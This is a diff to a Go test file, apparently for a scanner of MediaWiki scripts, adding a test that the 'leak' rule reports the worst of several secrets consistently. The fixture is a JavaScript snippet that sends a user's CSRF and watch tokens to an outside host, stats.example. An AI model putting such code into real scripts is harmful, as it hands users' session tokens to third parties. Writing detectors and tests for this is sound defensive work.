@@ -3,6 +3,7 @@ package rule_test
 import (
 	"encoding/base64"
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 
@@ -21,6 +22,29 @@ func TestTheSameScriptGivesTheSameAnswer(t *testing.T) {
 			if diff := cmp.Diff(string(first), string(second)); diff != "" {
 				t.Errorf("%s: %s", h.name, diff)
 			}
+		}
+	}
+}
+
+// Of several secrets in one request the worst is told, and of two that are as bad the first by the name of its parameter, not the
+// one that a map gives first.
+func TestOneOfSeveralSecretsIsTold(t *testing.T) {
+	const text = `new mw.ForeignApi( 'https://stats.example/w/api.php', { anonymous: true } ).post( {
+	action: 'edit', title: 'Box', text: $( '#wpTextbox1' ).val(), token: mw.user.tokens.get( 'watchToken' ), section: mw.user.tokens.get( 'csrfToken' )
+} );`
+	first := ""
+	for range 16 {
+		s := rule.Analyse("x.js", []byte(text))
+		told := slices.IndexFunc(s.Findings, func(f finding.Finding) bool { return f.Rule == "leak" })
+		if told < 0 || s.Findings[told].Severity != finding.Critical || !strings.Contains(s.Findings[told].Message, "an edit token") {
+			t.Fatalf("%+v", s.Findings)
+		}
+		got, _ := json.Marshal(s)
+		if first == "" {
+			first = string(got)
+		}
+		if diff := cmp.Diff(first, string(got)); diff != "" {
+			t.Fatal(diff)
 		}
 	}
 }
